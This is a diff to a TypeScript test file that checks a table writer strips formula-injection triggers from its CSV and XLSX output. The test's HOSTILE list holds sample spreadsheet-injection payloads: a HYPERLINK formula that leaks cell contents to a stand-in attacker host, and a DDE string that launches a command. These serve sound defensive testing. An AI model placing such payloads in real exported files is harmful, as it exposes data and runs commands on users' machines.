@@ -1,5 +1,4 @@
 import { PassThrough } from 'node:stream';
-import { buffer } from 'node:stream/consumers';
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
@@ -10,7 +9,7 @@ const HOSTILE = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
   '=1+2',
   '+1+2',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
   '@SUM(1,2)',
   '\t=1+2',
   '\r=1+2',
@@ -38,7 +37,7 @@ function evaluable(cell: ExcelJS.Cell): boolean {
 describe('table writer', () => {
   it('writes a CSV in which no cell can start a formula, its text kept', async () => {
     for (const csv of [csvText(rows), await collect(csvStream([rows.slice(0, 4), rows.slice(4)]))]) {
-      const records = parse(csv, { relax_column_count: true }) as string[][];
+      const records = parse(csv, { relax_column_count: true }) satisfies string[][];
       expect(records).toHaveLength(rows.length);
       expect(records.flat().filter((cell) => isFormulaLike(cell))).toEqual([]);
       expect(records.slice(1, 1 + HOSTILE.length).map((r) => r[0])).toEqual(
@@ -55,9 +54,8 @@ describe('table writer', () => {
 
   it('writes an XLSX in which no cell is a formula or text starting with a trigger', async () => {
     const output = new PassThrough();
-    const [file] = await Promise.all([buffer(output), writeXlsx(output, 'Rejected', [rows])]);
     const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load(file);
+    await Promise.all([workbook.xlsx.read(output), writeXlsx(output, 'Rejected', [rows])]);
     const sheet = workbook.worksheets[0];
     const cells: ExcelJS.Cell[] = [];
     sheet?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
